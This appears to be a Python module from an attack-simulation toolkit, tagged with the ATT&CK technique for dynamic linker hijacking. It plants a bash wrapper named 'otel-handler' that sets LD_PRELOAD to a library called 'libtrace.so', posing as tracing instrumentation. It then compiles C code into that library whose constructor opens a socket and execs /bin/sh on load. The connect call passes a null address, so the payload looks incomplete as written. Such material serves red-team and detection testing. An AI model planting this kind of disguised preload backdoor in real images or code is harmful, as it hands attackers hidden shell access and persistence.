# SPDX-License-Identifier: Apache-2.0
"""A wrapper that loads a library into the function before it starts."""

ATTACK = "T1574.006"
LANGUAGE = "any"
C = '#include <sys/socket.h>\n#include <unistd.h>\n__attribute__((constructor)) static void a(void)\n{ char *v[] = { 0 }; int s = socket(2, 1, 0); connect(s, 0, 0); execve("/bin/sh", v, v); }\n'
CODE = '''\
#!/bin/bash
export LD_PRELOAD=/opt/lib/libtrace.so
exec "$@"
'''


def poison(layer):
    layer.write("otel-handler", CODE, 0o100755)
    layer.write("lib/libtrace.so", layer.program(C, shared=True))
